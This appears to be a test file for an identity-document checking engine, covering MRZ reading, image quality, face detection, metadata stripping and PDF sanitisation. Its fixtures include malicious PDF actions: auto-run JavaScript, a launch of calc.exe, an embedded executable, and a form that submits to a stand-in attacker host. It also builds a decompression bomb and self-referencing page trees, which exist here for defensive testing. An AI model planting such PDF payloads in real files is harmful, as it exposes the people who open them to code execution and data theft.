import { deflateSync } from "node:zlib";
import { drawDocument } from "@latchkey/document-checks/corpus/documents.ts";
import { emptyPicture, portrait } from "@latchkey/document-checks/corpus/faces.ts";
import { lockedPdf, pdfOf, picturePdf } from "@latchkey/document-checks/corpus/pdf.ts";
import { amara } from "@latchkey/document-checks/corpus/people.ts";
import { photograph, scan } from "@latchkey/document-checks/corpus/photograph.ts";
import sharp from "sharp";
import { afterAll, expect, test } from "vitest";
import { jpegFile, openTestChecks, pdfFile, pngFile } from "../../test/open-checks.ts";

/** The engine's verdicts on real pictures. Needs a child process but no database. */

const checks = openTestChecks();
afterAll(checks.close);

const passport = drawDocument("passport", amara);
const licence = drawDocument("licence", amara);
const letter = drawDocument("letter", amara);
const width = 1600;

const asDocument = async (content: Promise<Buffer>, expectsZone = false) =>
  checks.checkDocument(jpegFile(await content), { expectsZone });

test("a passport on a table passes, and its zone is read", async () => {
  expect(await asDocument(photograph(passport, { turn: -8, width: 3200 }), true)).toMatchObject({
    outcome: "ok",
    scores: { corners: 4 },
    mrz: {
      format: "TD3",
      number: "533380006",
      surname: "OKAFOR",
      givenNames: "AMARA JOY",
      birthdate: "1990-02-14",
      expiry: "2031-05-05",
    },
  });
});

test("the zone of an upside-down card is read", async () => {
  const upsideDown = sharp(await scan(drawDocument("card", amara), { width: 1600 })).rotate(180);
  expect(await asDocument(upsideDown.jpeg().toBuffer(), true)).toMatchObject({
    outcome: "ok",
    mrz: { format: "TD1", number: "533380006", birthdate: "1990-02-14" },
  });
});

test("without time for the zone the rest is judged, and the verdict says so", async () => {
  const hurried = openTestChecks({ zoneMs: 0 });
  const judged = async (content: Promise<Buffer>) =>
    hurried.checkDocument(jpegFile(await content), { expectsZone: true });
  const late = { zoneIsLate: true };
  expect(await judged(photograph(passport, { width }))).toMatchObject({ outcome: "ok", ...late });
  expect(await judged(photograph(passport, { blur: 6, width }))).toMatchObject({
    outcome: "blurred",
    ...late,
  });
  await hurried.close();
});

test("a blurred one is blurred", async () => {
  expect(await asDocument(photograph(licence, { blur: 6, width }))).toMatchObject({ outcome: "blurred" });
});

test("a dark one is not", async () => {
  const dark = photograph(licence, { light: 0.35, noise: 6, table: "dark", width });
  expect(await asDocument(dark)).toMatchObject({ outcome: "ok" });
});

test("one that extends beyond the picture is cut off", async () => {
  expect(await asDocument(photograph(licence, { cut: 0.25, table: "dark", width }))).toMatchObject({
    outcome: "cut-off",
    scores: { corners: 2 },
  });
});

test("a flat scan, an enlarged one, and one with margins pass", async () => {
  const small = await scan(licence, { width: 800 });
  const enlarged = sharp(small).resize(2400).jpeg().toBuffer();
  for (const content of [
    scan(licence, { width: 1600 }),
    enlarged,
    scan(letter, { width: 1400, margin: 200 }),
  ]) {
    expect(await asDocument(content)).toMatchObject({ outcome: "ok" });
  }
});

test("a scan on its side, and a page in white on black, pass", async () => {
  const page = await scan(letter, { width: 1400 });
  for (const content of [sharp(page).rotate(90), sharp(page).negate()]) {
    expect(await asDocument(content.jpeg().toBuffer())).toMatchObject({ outcome: "ok" });
  }
});

test("the zone of a passport on its side is read", async () => {
  const onItsSide = sharp(await scan(passport, { width: 1600 })).rotate(270);
  expect(await asDocument(onItsSide.jpeg().toBuffer(), true)).toMatchObject({ mrz: { number: "533380006" } });
});

test.each(["chelsea", "coffee", "brick"] as const)("no document: %s", async (name) => {
  expect(await asDocument(emptyPicture(name))).toMatchObject({ outcome: "no-document" });
});

test("exactly one face, large enough", async () => {
  const face = async (content: Promise<Buffer>) => checks.checkFace(jpegFile(await content));
  expect(await face(portrait({ turn: -10, light: 0.6 }))).toMatchObject({ outcome: "ok", faces: 1 });
  expect(await face(portrait({ people: 2 }))).toMatchObject({ outcome: "several-faces", faces: 2 });
  expect(await face(portrait({ scale: 0.25 }))).toMatchObject({ outcome: "face-too-small", faces: 1 });
  expect(await face(emptyPicture("chelsea"))).toMatchObject({ outcome: "no-face", faces: 0 });
});

test("LAW-18 (in part) of a face its place and size are found, and nothing that tells whose it is", async () => {
  const found = await checks.checkFace(jpegFile(await portrait({ turn: 0 })));
  if (found.outcome === "not-checked") throw new Error(found.reason);
  expect(Object.keys(found).toSorted()).toEqual(["faceBoxes", "faces", "outcome", "scores"]);
  expect(found.faceBoxes.map((box) => Object.keys(box).toSorted())).toEqual([
    ["height", "page", "width", "x", "y"],
  ]);
  expect(Object.keys(found.scores)).toEqual(["largestFace"]);
});

test.each([0, -25, 25])("a face tilted by %i degrees stands at a place of the picture", async (turn) => {
  const found = await checks.checkFace(jpegFile(await portrait({ turn })));
  if (found.outcome === "not-checked") throw new Error(found.reason);
  expect(found.faceBoxes).toHaveLength(1);
  const [{ page, x, y, width, height } = { page: 0, x: 0, y: 0, width: 0, height: 0 }] = found.faceBoxes;
  expect(page).toBe(1);
  // The person stands in the middle.
  expect(Math.abs(x + width / 2 - 0.5)).toBeLessThan(0.12);
  expect(y).toBeGreaterThan(0);
  expect(y + height).toBeLessThan(0.9);
});

const SECRET = "52 deg 23 min";

test("FIL-06 a view is re-encoded: upright, without EXIF, GPS, XMP or profile", async () => {
  const content = await sharp({ create: { width: 300, height: 200, channels: 3, background: "#456" } })
    .withExif({
      IFD0: { Copyright: SECRET },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "52/1 23/1 0/1" },
    })
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><a>${SECRET}</a></x:xmpmeta>`)
    .withIccProfile("p3")
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
  expect(content.includes(SECRET)).toBe(true);
  const view = await checks.view(jpegFile(content), 1);
  if (view.outcome !== "ok") throw new Error(view.reason);
  const {
    format,
    width: across,
    height: down,
    exif,
    icc,
    xmp,
    iptc,
    orientation,
  } = await sharp(view.content).metadata();
  expect({ format, across, down, exif, icc, xmp, iptc, orientation }).toEqual({
    format: "jpeg",
    across: 200,
    down: 300,
  });
  expect(view.content.includes(SECRET)).toBe(false);
});

const aPicture = async () => ({ jpeg: await scan(licence, { width: 1600 }), width: 1600, height: 1010 });

/** Active or hidden content of PDFs. */
const ACTIONS: readonly (readonly [what: string, catalogue: string])[] = [
  ["a script that runs when it is opened", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"],
  ["a program that is started when it is closed", "/AA << /WC << /S /Launch /F (calc.exe) >> >>"],
  [
    "another file inside",
    "/Names << /EmbeddedFiles << /Names [(invoice.exe) << /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>] >> >>",
  ],
  [
    "a form with a script of its own (XFA) beside its page",
    "/AcroForm << /XFA [(template) 5 0 R] /Fields [] >>",
  ],
  [
    "a form that sends itself",
    "/AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F (https://evil.example/) >>",
  ],
];

test.each(ACTIONS)(
  "FIL-08 (in part) a PDF with %s is judged by its page, and shown as a picture without it",
  async (_what, catalogue) => {
    const file = pdfFile(picturePdf({ ...(await aPicture()), catalogue }));
    expect(await checks.checkDocument(file, { expectsZone: false })).toMatchObject({ outcome: "ok" });
    const view = await checks.view(file, 1);
    if (view.outcome !== "ok") throw new Error(view.reason);
    expect(view.pages).toBe(1);
    expect((await sharp(view.content).metadata()).format).toBe("jpeg");
    const acting = ["/JS", "/OpenAction", "/Launch", "/EmbeddedFiles", "/XFA", "invoice.exe", "evil.example"];
    expect(acting.filter((word) => view.content.includes(word))).toEqual([]);
  },
);

/** Pages of a PDF, all of them the same object. */
const pdfOfPages = (pages: number): Buffer =>
  pdfOf([
    { dictionary: "<< /Type /Catalog /Pages 2 0 R >>" },
    { dictionary: `<< /Type /Pages /Kids [${"3 0 R ".repeat(pages)}] /Count ${pages} >>` },
    { dictionary: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>" },
  ]);

/** Streams that unpack to far more than they weigh. */
const bombOfPage = (): Buffer => {
  const stream = deflateSync(Buffer.alloc(100 * 2 ** 20, "0 0 1 1 re f "), { level: 9 });
  return pdfOf([
    { dictionary: "<< /Type /Catalog /Pages 2 0 R >>" },
    { dictionary: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>" },
    {
      dictionary: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
    },
    { dictionary: `<< /Length ${stream.length} /Filter /FlateDecode >>`, stream },
  ]);
};

/** Pages below pages that are their own parents, and a table that names itself as the one before. */
const circles = (): readonly Buffer[] => [
  pdfOf([
    { dictionary: "<< /Type /Catalog /Pages 2 0 R >>" },
    { dictionary: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>" },
    { dictionary: "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>" },
  ]),
  pdfOf([{ dictionary: "<< /Type /Catalog /Pages 1 0 R >>" }], "/Prev 9"),
];

test("FIL-08 (in part) ten thousand pages, a page that unpacks to a hundred megabytes, and circles end within the limits, and the next file is checked", async () => {
  const limited = openTestChecks({ timeoutMs: 20_000, maxMemoryBytes: 500 * 2 ** 20 });
  const many = pdfFile(pdfOfPages(10_000));
  expect(await limited.inspect(many)).toMatchObject({ outcome: "ok" });
  expect(await limited.view(many, 10_000)).toMatchObject({ outcome: "ok", pages: 10_000 });
  const ends = ["ok", "no-document", "not-checked"];
  for (const content of [bombOfPage(), ...circles()]) {
    expect(ends).toContain((await limited.view(pdfFile(content), 1)).outcome);
  }
  expect(await limited.view(pdfFile(picturePdf(await aPicture())), 1)).toMatchObject({ outcome: "ok" });
  await limited.close();
});

test("FIL-08 (in part) a protected PDF, a broken one and a missing page are reported as such", async () => {
  const picture = await aPicture();
  const refused = (reason: string) => ({ outcome: "not-checked", reason });
  const whole = picturePdf(picture);
  expect(await checks.view(pdfFile(lockedPdf(picture)), 1)).toEqual(refused("encrypted"));
  expect(await checks.view(pdfFile(Buffer.from("%PDF-1.7\nnothing of the kind")), 1)).toEqual(
    refused("unreadable"),
  );
  expect(await checks.view(pdfFile(whole), 2)).toEqual(refused("unreadable"));
  expect(await checks.view(pdfFile(whole), 0)).toEqual(refused("unreadable"));
});

test("FIL-08 (in part) an oversized page is refused, whatever is on it", async () => {
  const huge = picturePdf(await aPicture());
  const text = huge.toString("latin1").replace(/MediaBox \[0 0 \d+ \d+\]/, "MediaBox [0 0 99999 9]");
  expect(await checks.view(pdfFile(Buffer.from(text, "latin1")), 1)).toMatchObject({ reason: "too-large" });
});

test("a truncated picture, or one of another type than declared, is unreadable", async () => {
  const { jpeg } = await aPicture();
  const refused = { outcome: "not-checked", reason: "unreadable" };
  expect(await checks.view(jpegFile(jpeg.subarray(0, jpeg.length / 2)), 1)).toEqual(refused);
  expect(await checks.view(pngFile(jpeg), 1)).toEqual(refused);
  expect(await checks.view(jpegFile(Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'/>")), 1)).toEqual(
    refused,
  );
});
